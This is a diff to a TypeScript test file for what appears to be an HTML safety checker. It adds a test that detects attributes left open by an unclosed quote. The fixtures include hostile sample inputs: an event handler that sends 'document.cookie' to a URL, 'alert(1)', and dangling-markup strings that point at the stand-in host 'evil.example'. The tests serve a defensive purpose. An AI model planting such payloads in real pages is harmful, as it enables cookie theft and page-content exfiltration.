@@ -2,7 +2,7 @@
 
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { changesItself, isBrokenScript } from './html-script.ts';
+import { changesItself, isBrokenScript, isLeftOpen } from './html-script.ts';
 
 const broken = (behind: string) => isBrokenScript(`<script${behind}`, 7);
 
@@ -38,4 +38,12 @@ test('a handler that changes its own element is told from one that does more', (
     assert.ok(changes(handler), handler);
   for (const handler of ["this.src='/x?'+document.cookie", 'alert(1)', "this.src='javascript:x'", 'this.remove();go()'])
     assert.ok(!changes(handler), handler);
+});
+
+test('an attribute is left open where its quote is never closed and it waits for more', () => {
+  const opens = (text: string) => isLeftOpen(text, text.search(/['"]/) + 1);
+  for (const text of ["<img src='http://evil.example/?", '<img src="//evil.example/?x=', "<base target='"])
+    assert.ok(opens(text), text);
+  for (const text of ["<img src='/a.png'>", '<a href="https://www.example.com/a/lo', '<a href="', "<a title='to be"])
+    assert.ok(!opens(text), text);
 });
